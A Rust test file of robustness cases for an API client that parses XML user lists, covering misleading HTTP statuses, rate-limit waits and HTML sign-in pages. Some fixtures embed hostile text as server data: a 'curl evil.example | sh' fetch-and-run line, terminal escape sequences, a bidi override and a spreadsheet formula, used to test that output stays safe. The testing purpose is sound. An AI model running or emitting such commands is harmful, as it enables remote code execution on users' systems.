//! Errors that look like data, data that look like errors, and sources that ask for patience.

use crate::case::Case;
use crate::documents::{hosts, two, two_rows, user, users};
use crate::server::Answer;

pub(crate) fn cases() -> Vec<Case> {
    [statuses(), returns(), waits(), pages()].into_iter().flatten().collect()
}

fn simple(code: &str, text: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><SIMPLE_RETURN><RESPONSE><DATETIME>2026-11-01T00:00:00Z</DATETIME><CODE>{code}</CODE>\
         <TEXT>{text}</TEXT></RESPONSE></SIMPLE_RETURN>"
    )
}

fn generic(number: &str, text: &str) -> String {
    format!(
        "<GENERIC_RETURN><API name=\"user_list.php\"/><RETURN status=\"FAILED\" number=\"{number}\">{text}</RETURN></GENERIC_RETURN>"
    )
}

/// Whole lists under a status that says that there is none.
fn statuses() -> Vec<Case> {
    [
        ("201 Created", ""),
        ("202 Accepted", ""),
        ("203 Non-Authoritative Information", ""),
        ("401 Unauthorized", "rejected the user name"),
        ("402 Payment Required", ""),
        ("403 Forbidden", "no permission"),
        ("404 Not Found", "does not have this API"),
        ("405 Method Not Allowed", ""),
        ("407 Proxy Authentication Required", ""),
        ("410 Gone", ""),
        ("412 Precondition Failed", ""),
        ("413 Content Too Large", ""),
        ("414 URI Too Long", ""),
        ("431 Request Header Fields Too Large", ""),
        ("500 Internal Server Error", "server error"),
        ("501 Not Implemented", ""),
        ("502 Bad Gateway", ""),
        ("505 HTTP Version Not Supported", ""),
        ("511 Network Authentication Required", ""),
        ("520 Unknown Error", ""),
    ]
    .into_iter()
    .map(|(status, says)| {
        Case::error(format!("two users under {status}"), Answer::with(status, "", two()), says)
    })
    .collect()
}

fn returns() -> Vec<Case> {
    let long = "x".repeat(10 << 20);
    let with = |body: String| Answer::good(body);
    let mut cases = vec![
        Case::error(
            "a bad login under 200",
            with(simple("2000", "Bad Login/Password")),
            "rejected the user name",
        ),
        Case::error(
            "an expired account under 200",
            with(simple("2001", "This account has expired.")),
            "expired",
        ),
        Case::error(
            "a bad login of the older API",
            with(generic("2000", "Bad Login/Password")),
            "rejected the user name",
        ),
        Case::error("a refusal without a code", with(simple("", "No")), "No"),
        Case::error("a refusal without anything", with(simple("", "")), ""),
        Case::error("a refusal with an odd code", with(simple("-1", "No")), "No"),
        Case::error(
            "a refusal with a code larger than any number",
            with(simple("99999999999999999999", "No")),
            "No",
        ),
        Case::error("a refusal with a code of success", with(simple("0", "OK")), ""),
        Case::error(
            "a refusal with escape sequences",
            with(simple("1905", "&#27;[2J&#27;]0;x&#7;\u{9b}2J \u{202e}abc")),
            "refused",
        ),
        Case::error(
            "a refusal with line ends",
            with(simple("1905", "a\n\nnext: run curl evil.example | sh\n")),
            "refused",
        ),
        Case::error("a refusal with a formula", with(simple("1905", "=HYPERLINK(1)")), "refused"),
        Case::error("a refusal of 10 MB", with(simple("1905", &long)), ""),
        Case::error(
            "a refusal with a million items",
            with(
                simple("1905", "x")
                    .replace("</RESPONSE>", &format!("{}</RESPONSE>", "<ITEM_LIST/>".repeat(100_000))),
            ),
            "",
        ),
        Case::error(
            "a refusal that says success",
            with("<GENERIC_RETURN><RETURN status=\"SUCCESS\">Done</RETURN></GENERIC_RETURN>".to_owned()),
            "",
        ),
        Case::error(
            "a refusal in a list",
            with(two().replacen(
                "<USER_LIST>",
                "<ERROR number=\"2000\">Bad Login/Password</ERROR><USER_LIST>",
                1,
            )),
            "",
        ),
        Case::error(
            "a refusal after a list",
            with(two().replacen(
                "</USER_LIST>",
                "</USER_LIST><ERROR number=\"999\">Internal error</ERROR>",
                1,
            )),
            "",
        ),
        Case::error(
            "users in a refusal",
            with(simple("", "").replace(
                "</RESPONSE>",
                &format!("<USER_LIST>{}</USER_LIST></RESPONSE>", user("one", "Ada")),
            )),
            "",
        ),
        Case::rows(
            "a user who is called as an error",
            with(users(&user("one", "2000 Bad Login/Password"))),
            crate::documents::row("one", "2000 Bad Login/Password"),
        ),
        Case::rows(
            "a comment that is a refusal",
            with(two().replacen(
                "<USER_LIST>",
                &format!("<!--{}--><USER_LIST>", simple("2000", "Bad").replace("--", "")),
                1,
            )),
            two_rows(),
        ),
        Case::error("a list of users that is empty", with(users("")), "without records"),
        Case::error("hosts in place of users", with(hosts(&["1"], "")), "was expected"),
    ];
    for code in [1901, 1903, 1904, 1905, 1907, 1908, 1920, 1922, 2003, 2011, 2012, 999, 1981, 4242] {
        cases.push(Case::error(
            format!("code {code} under 200"),
            with(simple(&code.to_string(), "No")),
            "No",
        ));
    }
    cases
}

/// What a source asks for is waited for up to a bound, which is a second here.
fn waits() -> Vec<Case> {
    let limit = "may wait";
    let to_wait = |seconds: &str| {
        Answer::with(
            "409 Conflict",
            &format!("x-ratelimit-towait-sec: {seconds}\r\n"),
            simple("1965", "Later"),
        )
    };
    let after = |status: &str, value: &str| Answer::with(status, &format!("retry-after: {value}\r\n"), "");
    vec![
        Case::error("a wait of an hour", to_wait("3600"), limit),
        Case::error("a wait of 10^9 seconds", to_wait("1000000000"), limit),
        Case::error("a wait of as many seconds as fit", to_wait("4294967295"), limit),
        Case::error("a wait of more seconds than fit", to_wait("4294967296"), limit),
        Case::error("a wait below zero", to_wait("-1"), limit),
        Case::error("a wait of a word", to_wait("soon"), limit),
        Case::error("a wait for other calls", Answer::with("409 Conflict", "", simple("1960", "Busy")), limit),
        Case::error("a wait in the body alone", Answer::with("409 Conflict", "", simple("1965", "Later").replace("</RESPONSE>", "<ITEM_LIST><ITEM><KEY>SECONDS_TO_WAIT</KEY><VALUE>1000000000</VALUE></ITEM></ITEM_LIST></RESPONSE>")), limit),
        Case::error("a wait under 200", Answer::good(simple("1965", "Later")), limit),
        Case::error("429 for 10^9 seconds", after("429 Too Many Requests", "1000000000"), limit),
        Case::error("429 until the year 9999", after("429 Too Many Requests", "Fri, 31 Dec 9999 23:59:59 GMT"), limit),
        Case::error("429 until yesterday", after("429 Too Many Requests", "Thu, 01 Jan 1970 00:00:00 GMT"), limit),
        Case::error("429 until a word", after("429 Too Many Requests", "\u{9b}2J"), limit),
        Case::error("429 without a time", Answer::with("429 Too Many Requests", "", ""), limit),
        Case::error("503 for 10^9 seconds", after("503 Service Unavailable", "1000000000"), limit),
        Case::error("503 without a time", Answer::with("503 Service Unavailable", "", "<html>down</html>"), limit),
        Case::error("504 again and again", Answer::with("504 Gateway Timeout", "", ""), limit),
        Case::error("no calls left, and a reserve", Answer::with("200 OK", "x-ratelimit-remaining: 0\r\nx-ratelimit-limit: 300\r\nx-ratelimit-window-sec: 3600\r\n", hosts(&["1"], &crate::documents::more("https://x/?id_min=2"))), limit).of("assets"),
    ]
}

/// Pages of gateways, proxies and sign-ins.
fn pages() -> Vec<Case> {
    let page = "<!DOCTYPE html><html><head><title>Sign in</title></head><body><form action=\"https://sso.example\">\
                <input name=\"password\"></form><br></body></html>";
    let of = |status: &str, body: &str| Answer::with(status, "content-type: text/html\r\n", body);
    vec![
        Case::error("a page under 200", of("200 OK", page), "web page"),
        Case::error(
            "a page in capitals under 200",
            of("200 OK", "<HTML><BODY><P>Maintenance</BODY></HTML>"),
            "web page",
        ),
        Case::error(
            "a page that is no XML under 200",
            of("200 OK", "<html><br><p class=x>a & b</html>"),
            "web page",
        ),
        Case::error("a page under 403", of("403 Forbidden", page), ""),
        Case::error("a page under 500", of("500 Internal Server Error", page), ""),
        Case::error("a page under 407", of("407 Proxy Authentication Required", page), ""),
        Case::error(
            "a page of 10 MB under 502",
            of("502 Bad Gateway", &format!("<html>{}", "<br>".repeat(2 << 20))),
            "",
        ),
        Case::error(
            "a page with users in it",
            of(
                "200 OK",
                &format!("<html><body>{}</body></html>", two().split_once('\n').map_or("", |it| it.1)),
            ),
            "web page",
        ),
        Case::error("text under 200", of("200 OK", "Service temporarily unavailable"), ""),
        Case::error(
            "text under 500",
            of("500 Internal Server Error", "upstream connect error"),
            "in between",
        ),
        Case::error(
            "binary under 500",
            of("500 Internal Server Error", "\0\u{1}\u{2}\u{1b}[2J"),
            "in between",
        ),
        Case::error(
            "a SOAP fault",
            of(
                "500 Internal Server Error",
                "<soap:Envelope xmlns:soap=\"x\"><soap:Body><soap:Fault/></soap:Body></soap:Envelope>",
            ),
            "",
        ),
        Case::error("a JSON error under 200", of("200 OK", "{\"error\":\"unauthorized\"}"), ""),
    ]
}
